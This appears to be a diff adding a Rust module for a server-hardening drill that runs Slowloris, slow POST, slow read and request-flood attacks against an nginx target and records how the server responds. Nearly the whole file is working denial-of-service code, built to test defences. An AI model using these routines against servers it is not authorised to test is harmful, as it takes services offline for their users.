@@ -1,0 +1,338 @@
+//! The four ways the second client misbehaves towards nginx, over raw connections so that it can
+//! be exactly as slow as it means to be. Each connection is one task; every loop ends at the
+//! hold time (and the flood also at its request cap).
+
+use stack_core::drill::{Attack, AttackFigures};
+use std::net::SocketAddr;
+use std::sync::Arc;
+use std::sync::atomic::{AtomicU64, Ordering};
+use std::time::{Duration, Instant};
+use tokio::io::{AsyncReadExt, AsyncWriteExt};
+use tokio::net::{TcpSocket, TcpStream};
+use tokio::task::JoinSet;
+use tokio::time::timeout;
+
+/// How long a slow connection waits between the bytes it trickles.
+const TRICKLE: Duration = Duration::from_secs(2);
+/// A connection attempt nginx does not answer within this counts as refused.
+const CONNECT_TIMEOUT: Duration = Duration::from_secs(2);
+/// The slow reader's receive buffer: nginx can hand it almost nothing.
+const SLOW_READ_BUFFER: u32 = 2048;
+/// Requests each slow reader pipelines.
+const SLOW_READ_REQUESTS: usize = 20;
+/// The announced body of a slow POST.
+const SLOW_BODY_BYTES: usize = 4096;
+/// Largest answer header the client reads.
+const MAX_HEAD: usize = 16 * 1024;
+
+/// What one connection saw.
+#[derive(Debug, Default)]
+struct Seen {
+    refused: bool,
+    requests: u64,
+    statuses: Vec<u16>,
+    /// When nginx closed it, from the connection's start.
+    closed_after: Option<Duration>,
+}
+
+pub async fn run(attack: Attack, target: SocketAddr, hold: Duration) -> AttackFigures {
+    let deadline = Instant::now() + hold;
+    let sent = Arc::new(AtomicU64::new(0));
+    let mut tasks = JoinSet::new();
+    for index in 0..attack.connections() {
+        let sent = Arc::clone(&sent);
+        tasks.spawn(async move {
+            match attack {
+                Attack::SlowHeaders => slow_headers(target, index, deadline).await,
+                Attack::SlowBody => slow_body(target, deadline).await,
+                Attack::SlowRead => slow_read(target, deadline).await,
+                Attack::Flood => flood(target, deadline, &sent).await,
+            }
+        });
+    }
+    let mut figures = AttackFigures {
+        connections: u64::from(attack.connections()),
+        ..AttackFigures::default()
+    };
+    while let Some(joined) = tasks.join_next().await {
+        let Ok(seen) = joined else { continue };
+        figures.refused += u64::from(seen.refused);
+        figures.requests += seen.requests;
+        for status in seen.statuses {
+            *figures.statuses.entry(status).or_default() += 1;
+        }
+        if let Some(after) = seen.closed_after {
+            figures.closed_by_server += 1;
+            let ms = u64::try_from(after.as_millis()).unwrap_or(u64::MAX);
+            figures.last_closed_ms = Some(figures.last_closed_ms.unwrap_or(0).max(ms));
+        }
+    }
+    figures
+}
+
+async fn connect(target: SocketAddr, receive_buffer: Option<u32>) -> Option<TcpStream> {
+    let socket = match target {
+        SocketAddr::V4(_) => TcpSocket::new_v4(),
+        SocketAddr::V6(_) => TcpSocket::new_v6(),
+    }
+    .ok()?;
+    if let Some(size) = receive_buffer {
+        socket.set_recv_buffer_size(size).ok()?;
+    }
+    timeout(CONNECT_TIMEOUT, socket.connect(target))
+        .await
+        .ok()?
+        .ok()
+}
+
+/// Waits for `stream` to say something or close, at most until `until`. `Some(bytes)` when
+/// nginx answered or closed (empty), `None` when it stayed silent.
+async fn listen(stream: &mut TcpStream, until: Instant, head: &mut Vec<u8>) -> Option<usize> {
+    let mut buffer = [0u8; 1024];
+    let wait = until.saturating_duration_since(Instant::now());
+    match timeout(wait, stream.read(&mut buffer)).await {
+        Err(_) => None,
+        Ok(Ok(read)) => {
+            head.extend_from_slice(&buffer[..read]);
+            Some(read)
+        }
+        Ok(Err(_)) => Some(0),
+    }
+}
+
+/// The status of the answer whose head starts `bytes`, once its status line is complete.
+fn status_of(bytes: &[u8]) -> Option<u16> {
+    let line_end = bytes.windows(2).position(|w| w == b"\r\n")?;
+    let line = std::str::from_utf8(&bytes[..line_end]).ok()?;
+    line.split(' ').nth(1)?.parse().ok()
+}
+
+/// Slowloris: a request line and one more header line every TRICKLE, never the blank line.
+async fn slow_headers(target: SocketAddr, index: u32, deadline: Instant) -> Seen {
+    let started = Instant::now();
+    let Some(mut stream) = connect(target, None).await else {
+        return Seen {
+            refused: true,
+            ..Seen::default()
+        };
+    };
+    let mut seen = Seen {
+        requests: 1,
+        ..Seen::default()
+    };
+    let opening = format!("GET /?slow={index} HTTP/1.1\r\nHost: drill\r\n");
+    if stream.write_all(opening.as_bytes()).await.is_err() {
+        seen.closed_after = Some(started.elapsed());
+        return seen;
+    }
+    let mut head = Vec::new();
+    let mut line = 0u32;
+    while Instant::now() < deadline {
+        let next = (Instant::now() + TRICKLE).min(deadline);
+        if listen(&mut stream, next, &mut head).await.is_some() {
+            // nginx answered (a 408 or 400) or hung up: either way it ended the request.
+            seen.statuses.extend(status_of(&head));
+            seen.closed_after = Some(started.elapsed());
+            return seen;
+        }
+        line += 1;
+        let header = format!("X-Drill-{line}: {index}\r\n");
+        if stream.write_all(header.as_bytes()).await.is_err() {
+            seen.closed_after = Some(started.elapsed());
+            return seen;
+        }
+    }
+    seen
+}
+
+/// Slow POST: complete headers announcing a body, then the body a byte every TRICKLE.
+async fn slow_body(target: SocketAddr, deadline: Instant) -> Seen {
+    let started = Instant::now();
+    let Some(mut stream) = connect(target, None).await else {
+        return Seen {
+            refused: true,
+            ..Seen::default()
+        };
+    };
+    let mut seen = Seen {
+        requests: 1,
+        ..Seen::default()
+    };
+    let head = format!(
+        "POST /api/items HTTP/1.1\r\nHost: drill\r\nContent-Type: application/json\r\n\
+         Content-Length: {SLOW_BODY_BYTES}\r\n\r\n{{"
+    );
+    if stream.write_all(head.as_bytes()).await.is_err() {
+        seen.closed_after = Some(started.elapsed());
+        return seen;
+    }
+    let mut answer = Vec::new();
+    for _ in 1..SLOW_BODY_BYTES {
+        if Instant::now() >= deadline {
+            break;
+        }
+        let next = (Instant::now() + TRICKLE).min(deadline);
+        if let Some(read) = listen(&mut stream, next, &mut answer).await {
+            if let Some(status) = status_of(&answer) {
+                seen.statuses.push(status);
+                return seen;
+            }
+            if read == 0 {
+                seen.closed_after = Some(started.elapsed());
+                return seen;
+            }
+            continue;
+        }
+        if stream.write_all(b" ").await.is_err() {
+            seen.closed_after = Some(started.elapsed());
+            return seen;
+        }
+    }
+    seen
+}
+
+/// Slow read: requests pipelined on a connection with a tiny receive window; only the first
+/// answer's status line is read, nothing after it.
+async fn slow_read(target: SocketAddr, deadline: Instant) -> Seen {
+    let Some(mut stream) = connect(target, Some(SLOW_READ_BUFFER)).await else {
+        return Seen {
+            refused: true,
+            ..Seen::default()
+        };
+    };
+    let request = "GET /api/items?per_page=100 HTTP/1.1\r\nHost: drill\r\n\r\n";
+    let pipelined = request.repeat(SLOW_READ_REQUESTS);
+    let mut seen = Seen {
+        requests: SLOW_READ_REQUESTS as u64,
+        ..Seen::default()
+    };
+    if timeout(
+        deadline.saturating_duration_since(Instant::now()),
+        stream.write_all(pipelined.as_bytes()),
+    )
+    .await
+    .is_err()
+    {
+        return seen;
+    }
+    let mut head = Vec::new();
+    while status_of(&head).is_none() && head.len() < MAX_HEAD {
+        match listen(&mut stream, deadline, &mut head).await {
+            Some(0) | None => break,
+            Some(_) => {}
+        }
+    }
+    seen.statuses.extend(status_of(&head));
+    // Hold the connection without reading until the end.
+    tokio::time::sleep_until(deadline.into()).await;
+    seen
+}
+
+/// Flood: back-to-back GET / on a keep-alive connection (a new one when nginx closes it), until
+/// the deadline or the shared request cap.
+async fn flood(target: SocketAddr, deadline: Instant, sent: &AtomicU64) -> Seen {
+    let mut seen = Seen::default();
+    let mut stream: Option<TcpStream> = None;
+    while Instant::now() < deadline
+        && sent.fetch_add(1, Ordering::Relaxed) < Attack::FLOOD_MAX_REQUESTS
+    {
+        if stream.is_none() {
+            stream = connect(target, None).await;
+            if stream.is_none() {
+                seen.refused = true;
+                tokio::time::sleep(Duration::from_millis(50)).await;
+                continue;
+            }
+        }
+        let Some(connection) = stream.as_mut() else {
+            continue;
+        };
+        seen.requests += 1;
+        let left = deadline.saturating_duration_since(Instant::now());
+        match timeout(left, exchange(connection)).await {
+            Ok(Some((status, keep_alive))) => {
+                seen.statuses.push(status);
+                if !keep_alive {
+                    stream = None;
+                }
+            }
+            Ok(None) | Err(_) => stream = None,
+        }
+    }
+    seen
+}
+
+/// One request on a kept-alive connection and its whole answer: (status, connection kept).
+async fn exchange(stream: &mut TcpStream) -> Option<(u16, bool)> {
+    stream
+        .write_all(b"GET / HTTP/1.1\r\nHost: drill\r\n\r\n")
+        .await
+        .ok()?;
+    let mut bytes = Vec::with_capacity(1024);
+    let mut buffer = [0u8; 4096];
+    loop {
+        let read = stream.read(&mut buffer).await.ok()?;
+        if read == 0 {
+            return None;
+        }
+        bytes.extend_from_slice(&buffer[..read]);
+        let mut headers = [httparse::EMPTY_HEADER; 32];
+        let mut response = httparse::Response::new(&mut headers);
+        let httparse::Status::Complete(head_len) = response.parse(&bytes).ok()? else {
+            if bytes.len() > MAX_HEAD {
+                return None;
+            }
+            continue;
+        };
+        let status = response.code?;
+        let header = |name: &str| {
+            response
+                .headers
+                .iter()
+                .find(|h| h.name.eq_ignore_ascii_case(name))
+                .and_then(|h| std::str::from_utf8(h.value).ok())
+                .map(str::to_ascii_lowercase)
+        };
+        let keep_alive = header("connection").as_deref() != Some("close");
+        let chunked = header("transfer-encoding").is_some_and(|v| v.contains("chunked"));
+        let length: usize = header("content-length")
+            .and_then(|v| v.trim().parse().ok())
+            .unwrap_or(0);
+        let mut body = bytes.split_off(head_len);
+        if chunked {
+            while !body.ends_with(b"0\r\n\r\n") {
+                let read = stream.read(&mut buffer).await.ok()?;
+                if read == 0 {
+                    return None;
+                }
+                body.extend_from_slice(&buffer[..read]);
+            }
+        } else {
+            while body.len() < length {
+                let read = stream.read(&mut buffer).await.ok()?;
+                if read == 0 {
+                    return None;
+                }
+                body.extend_from_slice(&buffer[..read]);
+            }
+        }
+        return Some((status, keep_alive));
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::status_of;
+
+    #[test]
+    fn reads_the_status_once_its_line_is_complete() {
+        assert_eq!(status_of(b"HTTP/1.1 429 Too Many Requests\r\n"), Some(429));
+        assert_eq!(
+            status_of(b"HTTP/1.1 200 OK\r\nServer: x\r\n\r\n"),
+            Some(200)
+        );
+        assert_eq!(status_of(b"HTTP/1.1 429 Too"), None);
+        assert_eq!(status_of(b""), None);
+        assert_eq!(status_of(b"garbage\r\n"), None);
+    }
+}
